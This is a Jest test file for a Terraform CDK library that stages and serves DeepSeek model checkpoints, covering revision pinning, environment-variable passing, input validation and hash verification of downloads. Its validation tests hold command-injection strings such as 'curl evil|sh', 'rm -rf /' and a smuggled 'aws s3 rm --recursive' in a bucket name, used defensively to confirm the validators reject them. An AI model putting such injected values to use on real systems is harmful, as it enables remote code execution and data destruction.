import { spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Testing, TerraformStack } from "cdktf";
import { DeepSeekConfigError } from "../../lib/errors";
import { ModelStaging, stagingObjects, servingObjects, SingleNodeInference } from "../../lib/serving";
import { checkStagingInputs, checkpointLocation, gcsBucketProblem, hfRepoIdProblem, hfRevisionProblem, s3BucketProblem } from "../../lib/serving/plan-checkpoint";
import { STAGE_DOWNLOAD_PY } from "../../lib/serving/pod-scripts";
import { planFor, targetFor } from "../serving/helpers";

type Any = Record<string, any>;
const COMMIT = "0123456789abcdef0123456789abcdef01234567";
const pinned = (cloud: "aws" | "gcp" = "aws") => ({ ...planFor(cloud, "8xH200", "latency"), checkpointRevision: COMMIT });

/** Every container (init and main) of every pod template in the objects. */
function containers(objects: readonly Any[]): Any[] {
  const out: Any[] = [];
  const visit = (n: unknown): void => {
    if (Array.isArray(n)) { n.forEach(visit); return; }
    if (!n || typeof n !== "object") return;
    const o = n as Any;
    if (Array.isArray(o.containers)) out.push(...o.containers, ...(o.initContainers ?? []));
    Object.values(o).forEach(visit);
  };
  visit(objects);
  return out;
}

describe("pinned checkpoints", () => {
  test("the revision reaches the bucket path, the node cache and the staged marker: two revisions never share one", () => {
    const a = checkpointLocation(pinned(), targetFor("aws"));
    expect(a.url).toBe(`s3://deepseek-models-us-east-1/checkpoints/deepseek-ai/DeepSeek-R1/${COMMIT}`);
    expect(a.dir).toBe(`/models/.checkpoints/deepseek-ai/DeepSeek-R1/${COMMIT}`);
    const b = checkpointLocation({ ...pinned(), checkpointRevision: "f".repeat(40) }, targetFor("aws"));
    expect(b.url).not.toBe(a.url);
    expect(b.dir).not.toBe(a.dir);
    const job = stagingObjects(pinned(), targetFor("aws"))[2] as Any;
    const spec = job.spec.template.spec;
    // The marker lives under the revision's URL, in both the skip check and the upload.
    expect(spec.initContainers[0].command[2]).toContain('"$CHECKPOINT_URL/_STAGED"');
    expect(spec.containers[0].command[2]).toContain('"$CHECKPOINT_URL/_STAGED"');
    expect(spec.initContainers[0].env).toContainEqual({ name: "CHECKPOINT_URL", value: a.url });
    // The download gets the revision; the marker's content is the verified commit.
    expect(spec.initContainers[1].env).toContainEqual({ name: "CHECKPOINT_REVISION", value: COMMIT });
    expect(spec.containers[0].command[2]).toContain("cp /state/commit /tmp/_STAGED");
    // A new revision is a new Job (its template changed), so it is staged, not skipped.
    const other = stagingObjects({ ...pinned(), checkpointRevision: "f".repeat(40) }, targetFor("aws"))[2] as Any;
    expect(other.metadata.name).not.toBe(job.metadata.name);
  });

  test("the servers read the same revision the Job staged", () => {
    const plan = pinned("gcp");
    const init = (servingObjects(plan, targetFor("gcp")).find((o) => o.kind === "Deployment") as Any).spec.template.spec.initContainers[0];
    expect(init.env).toContainEqual({ name: "CHECKPOINT_URL", value: checkpointLocation(plan, targetFor("gcp")).url });
    expect(init.env).toContainEqual({ name: "CHECKPOINT_DIR", value: `/models/.checkpoints/${plan.checkpoint}/${COMMIT}` });
  });

  test("no value reaches a script's text: checkpoint, revision and bucket travel as environment variables", () => {
    const plan = { ...planFor("aws", "2x8xH100", "latency"), checkpoint: "zz-org/zz-model", checkpointRevision: "zz-rev" };
    const target = { ...targetFor("aws"), modelBucket: "zz-bucket" };
    const all = containers([...stagingObjects(plan, target), ...servingObjects(plan, target)]);
    const scripts = all.flatMap((c) => (c.command ?? []) as string[]);
    expect(scripts.length).toBeGreaterThan(5);
    for (const s of scripts) expect(s).not.toMatch(/zz-/);
    expect(all.filter((c) => (c.env ?? []).some((e: Any) => String(e.value).includes("zz-bucket"))).length).toBeGreaterThanOrEqual(3);
  });
});

describe("hostile values are refused by their grammar", () => {
  const HOSTILE = ["a;rm -rf /", "$(id)", "`id`", "a b", "x\ny", "-rf", "../../etc", "a/../../b", "\"quoted\"", "a'b", "a|b", "a&&b", "${var.x}", ""];
  test.each(HOSTILE)("%j is no repository id, revision or bucket", (bad) => {
    expect(hfRepoIdProblem(bad)).toBeDefined();
    expect(hfRevisionProblem(bad)).toBeDefined();
    expect(s3BucketProblem(bad)).toBeDefined();
    expect(gcsBucketProblem(bad)).toBeDefined();
  });

  test("real names pass", () => {
    for (const ok of ["deepseek-ai/DeepSeek-R1", "nvidia/DeepSeek-R1-0528-FP4-v2", "gpt2", "Barrrrry/DeepSeek-R1-W4AFP8"]) expect(hfRepoIdProblem(ok)).toBeUndefined();
    for (const ok of ["main", COMMIT, "v1.0", "refs/pr/12", "release_2025-01"]) expect(hfRevisionProblem(ok)).toBeUndefined();
    for (const ok of ["deepseek-models-us-east-1", "my.bucket.name"]) expect(s3BucketProblem(ok)).toBeUndefined();
    for (const ok of ["deepseek_models-eu", "a.b.c"]) expect(gcsBucketProblem(ok)).toBeUndefined();
    expect(hfRepoIdProblem("a--b/c")).toBeDefined();
    expect(s3BucketProblem("Upper")).toBeDefined();
    expect(s3BucketProblem("192.168.1.1")).toBeDefined();
    expect(gcsBucketProblem("google-models")).toBeDefined();
  });

  test("constructs refuse them with the field's path, before anything is emitted", () => {
    const stack = new TerraformStack(Testing.app(), "s");
    const cases: [Any, Any, string][] = [
      [{ ...pinned(), checkpoint: "x/y;curl evil|sh" }, targetFor("aws"), "stage.plan.checkpoint"],
      [{ ...pinned(), checkpointRevision: "main$(id)" }, targetFor("aws"), "stage.plan.checkpointRevision"],
      [{ ...pinned(), checkpointRevision: "a/../../../etc" }, targetFor("aws"), "stage.plan.checkpointRevision"],
      [pinned(), { ...targetFor("aws"), modelBucket: "b\"; aws s3 rm --recursive s3://prod; \"" }, "stage.target.modelBucket"],
      [pinned("gcp"), { ...targetFor("gcp"), modelBucket: "gs://x/y" }, "stage.target.modelBucket"],
    ];
    cases.forEach(([plan, target, path], i) => {
      const err = (() => { try { new ModelStaging(stack, `stage${i === 0 ? "" : i}`, { plan, target } as never); return undefined; } catch (e) { return e; } })();
      expect(err).toBeInstanceOf(DeepSeekConfigError);
      expect((err as DeepSeekConfigError).path).toBe(path.replace("stage", `stage${i === 0 ? "" : i}`));
    });
    // The server constructs check the same values (their init container reads the bucket).
    expect(() => new SingleNodeInference(stack, "srv", { plan: { ...pinned(), checkpointRevision: "-rf" }, target: targetFor("aws") })).toThrow(/srv\.plan\.checkpointRevision/);
    // A reference from another stack (a token) is not text: it passes and reaches only an env value.
    expect(() => checkStagingInputs(pinned(), { cloud: "aws", modelBucket: "${TfToken[TOKEN.7]}" })).not.toThrow();
  });
});

const hasPython = spawnSync("python3", ["--version"]).status === 0;
const FILES = { "config.json": "{\"model_type\": \"deepseek_v3\"}", "model-00001.safetensors": "weights-one", "sub/model-00002.safetensors": "weights-two" };

/** Runs the staging Job's download script against the fake Hub; returns exit status and stderr. */
function stage(fault: string, revision = COMMIT) {
  const dir = mkdtempSync(join(tmpdir(), "stage-"));
  const res = spawnSync("python3", ["-c", STAGE_DOWNLOAD_PY], {
    encoding: "utf8",
    env: {
      PATH: process.env.PATH, PYTHONPATH: join(__dirname, "fixtures", "fake_hub"), PYTHONDONTWRITEBYTECODE: "1",
      CHECKPOINT_REPO: "deepseek-ai/DeepSeek-R1", CHECKPOINT_REVISION: revision, CHECKPOINT_DIR: join(dir, "ckpt"), STATE_DIR: dir,
      FAKE_HUB_FILES: JSON.stringify(FILES), FAKE_HUB_COMMIT: COMMIT, FAKE_HUB_FAULT: fault,
    },
  });
  return { status: res.status, stderr: res.stderr, dir };
}

(hasPython ? describe : describe.skip)("the download is verified against the Hub's metadata for the revision", () => {
  test("a faithful download passes and records the commit", () => {
    const r = stage("");
    expect([r.status, r.stderr]).toEqual([0, ""]);
    expect(readFileSync(join(r.dir, "commit"), "utf8")).toBe(COMMIT);
    expect(readFileSync(join(r.dir, "ckpt", ".complete"), "utf8")).toBe(COMMIT);
  });

  test.each([
    ["size", /size of config\.json/],
    ["sha", /sha256 of model-00001\.safetensors/],
    ["missing", /missing: model-00001\.safetensors/],
    ["extra", /not in the revision: modeling_evil\.py/],
  ])("a planted %s fault fails the Job and stages nothing", (fault, message) => {
    const r = stage(fault);
    expect(r.status).not.toBe(0);
    expect(r.stderr).toMatch(message);
    expect(existsSync(join(r.dir, "commit"))).toBe(false);
    expect(existsSync(join(r.dir, "ckpt", ".complete"))).toBe(false);
  });

  test("a pinned revision the Hub resolves to another commit is refused", () => {
    const r = stage("", "f".repeat(40));
    expect(r.status).not.toBe(0);
    expect(r.stderr).toMatch(/resolved to commit 0123/);
  });

  test("a branch is resolved to its commit, downloaded at that commit and verified", () => {
    const r = stage("", "main");
    expect(r.status).toBe(0);
    expect(readFileSync(join(r.dir, "commit"), "utf8")).toBe(COMMIT);
  });
});
